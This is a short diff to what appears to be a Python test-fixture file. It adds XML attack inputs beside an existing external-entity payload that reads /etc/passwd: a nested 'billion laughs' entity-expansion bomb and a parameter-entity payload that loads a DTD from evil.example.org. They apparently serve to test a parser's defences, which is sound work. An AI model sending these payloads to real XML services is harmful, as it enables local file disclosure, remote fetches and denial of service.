@@ -105,3 +105,10 @@ def huge_directory():
 
 
 DTD = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
+
+LAUGHS = (
+    "<!DOCTYPE x [<!ENTITY a 'ha'>"
+    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1 or str()};' * 10}'>" for n in range(1, 10))
+    + "]><x>&a9;</x>"
+)
+PARAMETER = "<!DOCTYPE x [<!ENTITY % p SYSTEM 'https://evil.example.org/x.dtd'> %p;]><x/>"
